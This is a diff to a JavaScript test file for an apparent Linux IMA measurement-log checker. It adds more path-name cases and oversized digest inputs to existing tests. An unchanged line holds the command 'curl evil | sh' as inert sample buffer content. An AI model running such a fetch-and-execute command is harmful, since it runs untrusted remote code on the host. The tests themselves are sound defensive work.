@@ -52,6 +52,19 @@ test('a file with its signature that is sent as a buffer is judged as a file', (
   const own = Buffer.from('\u0003\ncurl evil | sh\n'); // what it holds is its signature, too
   for (const name of [path, '.ima', 'kexec-cmdline', 'usr/bin/evil', 'evil', 'boot_aggregate', '.ima/x', '', '.'])
     assert.equal(outcome({ path: name, template: 'ima-buf', buffer: own }), 1, name);
+  for (const name of [
+    path,
+    'usr/bin/evil',
+    'evil',
+    'boot_aggregate',
+    '.ima/x',
+    '',
+    '.',
+    'dm_',
+    'kexec-cmdline2',
+    'x.ima',
+  ])
+    assert.equal(outcome({ path: name, template: 'ima-buf', buffer: Buffer.from('some text') }), 1, name);
 });
 
 test('what the kernel measures beside files is none: keys, its command lines, critical data', () => {
@@ -94,8 +107,15 @@ test('a bad file is told however long its name is', () => {
   assert.equal(files?.counts.bad, 1);
   assert.match(files?.bad[0]?.path ?? '', /^\/usr\/bin\/x{100,}…$/);
   assert.ok(JSON.stringify(files).length < 10_000);
-  const long = { path: '/x', algorithm: 'a'.repeat(70_000), digest: Buffer.alloc(70_000) };
-  assert.ok(judged([long]).codes.includes('ima-file-unknown'));
+  for (const long of [
+    { path: '/x', algorithm: 'a'.repeat(70_000), digest: Buffer.alloc(32) },
+    { path: '/x', digest: Buffer.alloc(70_000) },
+  ]) {
+    const result = judged([long]);
+    assert.ok(result.codes.includes('ima-file-unknown'));
+    assert.equal(result.files?.bad.length, 1);
+    assert.ok(JSON.stringify(result.files).length < 20_000);
+  }
 });
 
 test('what was counted as bad is a finding, also where a state names none of it', () => {
